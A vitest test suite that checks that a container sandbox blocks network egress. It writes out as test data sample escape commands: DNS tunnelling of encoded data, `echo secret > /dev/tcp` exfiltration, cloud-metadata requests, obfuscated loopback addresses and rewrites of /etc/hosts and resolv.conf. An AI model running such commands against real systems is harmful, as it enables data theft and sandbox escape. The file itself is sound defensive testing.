import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Attempt, expectContained, FETCH, missingRule } from "../support/egress/attempt.ts";
import { clientsImage } from "../support/egress/clients-image.ts";
import { Gated } from "../support/egress/gated.ts";
import { World } from "../support/egress/world.ts";
import { connect } from "../support/engine.ts";

let world: World;
let image: string;
beforeAll(async () => {
  world = await World.start();
  image = await clientsImage(await connect());
});
afterAll(() => world?.[Symbol.asyncDispose]());

/** What the honeypot's port stands for. */
const PORT = "@PORT@";
const UNREACHABLE = /unreachable|Failed to connect to 192/i;

const NAMES: Attempt[] = [
  {
    title: "N-01, N-02 http is denied",
    command: `${FETCH} http://other.test/`,
    sees: /not resolve/,
    line: missingRule("other.test"),
  },
  {
    title: "N-03 https is denied",
    command: `${FETCH} https://other.test/`,
    sees: /not resolve/,
    line: missingRule("other.test"),
  },
  {
    title: "N-04 wget is denied",
    command: "wget -q -O- --tries=1 https://other.test/",
    line: missingRule("other.test"),
  },
  {
    title: "N-04 Python is denied",
    command: `python3 -c 'import urllib.request as r; r.urlopen("https://other.test/")'`,
    sees: /Name or service not known/,
    line: missingRule("other.test"),
  },
  {
    title: "N-04 Node is denied",
    command: `node -e 'fetch("https://other.test/").catch((error) => { console.log(error.cause.code); process.exit(1) })'`,
    sees: /ENOTFOUND/,
    line: missingRule("other.test"),
  },
  {
    title: "N-06 ssh is denied",
    command: "ssh -o BatchMode=yes -o ConnectTimeout=9 git@other.test",
    sees: /not resolve|not known/,
    line: missingRule("other.test"),
  },
  {
    title: "N-04 git is denied",
    command: "git clone https://other.test/git/repo.git x",
    line: missingRule("other.test"),
  },
  {
    title: "N-12 a question for text is denied, and is no refused host",
    command: "dig +tries=1 +timeout=5 TXT c2VjcmV0.other.test",
    sees: /NXDOMAIN/,
  },
  {
    title: "N-12 labels that carry data reach no name server",
    command: `for part in c2Vj cmV0 ZGF0; do getent ahosts $part.tunnel.other.test; done; false`,
    line: /tunnel\.other\.test/,
  },
  {
    title: "N-13 a name server behind https is denied",
    command: `${FETCH} https://dns.test/dns-query?name=x`,
    sees: /not resolve/,
  },
  {
    title: "N-14 emptied and filled proxy settings change nothing",
    command: `NO_PROXY='*' no_proxy='*' ${FETCH} --noproxy '*' https://other.test/; HTTPS_PROXY=http://192.0.2.2:${PORT} ${FETCH} https://other.test/`,
    sees: UNREACHABLE,
  },
  {
    title: "N-42 a name for the host is denied",
    command: `${FETCH} http://host.docker.internal:${PORT}/`,
    sees: /not resolve/,
  },
  {
    title: "N-43 a name for metadata is denied",
    command: `${FETCH} http://metadata.google.internal/`,
    sees: /not resolve/,
  },
];

/** A connection, a datagram and an echo to each. */
const ADDRESSES: [string, string[]][] = [
  ["N-05, N-07, N-09 a public address", ["93.184.216.34"]],
  ["N-10 a public IPv6 address", ["2606:2800:220:1::1"]],
  ["N-11 the name servers everybody knows", ["8.8.8.8", "1.1.1.1", "9.9.9.9", "208.67.222.222"]],
  ["N-41 the engine's bridge", ["172.17.0.1", "172.18.0.1"]],
  [
    "N-43 metadata of the clouds",
    ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"],
  ],
  [
    "N-44 private, shared and benchmark networks",
    ["10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "198.18.0.1"],
  ],
  ["N-44 multicast, broadcast and reserved addresses", ["224.0.0.1", "255.255.255.255", "240.0.0.1"]],
  ["N-45 private and link-local IPv6", ["fd00::1", "fe80::1", "ff02::1"]],
  ["N-45 IPv4 inside IPv6", ["64:ff9b::a00:1", "2002:a00:1::1", "::ffff:10.0.0.1", "2001:0:a00:1::1"]],
];

describe.each([
  ["without a policy", ""],
  ["with an empty list", "network: { allow: [] }"],
])("a sandbox %s", (_name, policy) => {
  let gated: Gated;
  beforeAll(async () => {
    gated = await Gated.open(world, { policy, image });
  });
  afterAll(() => gated?.[Symbol.asyncDispose]());

  const control = async (): Promise<void> =>
    expect((await gated.sh("python3 control.py")).text).toMatch(/^control ok\n/);

  it.each(NAMES.map((one) => [one.title, one] as const))("%s", async (_title, attempt) => {
    const command = attempt.command.replaceAll(PORT, String(world.honeypot.port));
    await expectContained(world, gated, { ...attempt, command });
    await control();
  });

  it.each([...ADDRESSES, ["N-41 this machine's own addresses", []] as [string, string[]]])(
    "%s cannot be reached by TCP, UDP or ICMP",
    async (_title, listed) => {
      const addresses = listed.length > 0 ? listed : world.honeypot.addresses;
      const { port } = world.honeypot;
      for (const address of addresses) {
        const host = address.includes(":") ? `[${address}]` : address;
        const commands = [
          `curl -sS --max-time 9 http://${host}:${port}/`,
          `timeout 9 bash -c 'echo secret > /dev/tcp/${address}/${port}'`,
          `python3 udp.py ${address} ${port} | grep sent`,
        ];
        await expectContained(world, gated, {
          title: address,
          command: commands.map((one) => `${one} && echo GOT-THROUGH`).join("; "),
          sees: /^(?![\s\S]*GOT-THROUGH)[\s\S]*$/,
        });
      }
      await control();
    },
  );

  it("N-40 the container's loopback is not the host's", async () => {
    const { port } = world.honeypot;
    const command = `for host in 127.0.0.1 '[::1]' localhost 0 127.1 2130706433 0x7f.1 0177.0.0.1; do curl -sS --max-time 5 http://$host:${port}/ && echo GOT-THROUGH; done; false`;
    await expectContained(world, gated, { title: "loopback", command, sees: /^(?![\s\S]*GOT-THROUGH)[\s\S]*$/ });
    await control();
  });

  it("N-11 a question to a name server of one's own choice goes nowhere", async () => {
    const { port, addresses } = world.honeypot;
    const servers = [...addresses, "8.8.8.8"].map(
      (address) => `dig +tries=1 +timeout=3 -p ${port} @${address} secret.test`,
    );
    await expectContained(world, gated, { title: "dig", command: `${servers.join("; ")}; false` });
    await control();
  });

  it("N-14 the hosts file and the resolver's settings cannot be changed", async () => {
    const command = `echo '93.184.216.34 other.test' >> /etc/hosts; echo 'nameserver 8.8.8.8' > /etc/resolv.conf; ${FETCH} https://other.test/`;
    await expectContained(world, gated, { title: "files", command, sees: /not resolve|unreachable/i });
    await control();
  });

  it("says how often addresses had no route, and that only names work", async () => {
    const { lines } = await gated.sh("curl -sS http://93.184.216.34/; curl -sS http://8.8.8.8/");
    expect(lines.join("\n")).toMatch(/name/);
    expect((await gated.sh("true")).lines).toEqual([]);
  });
});
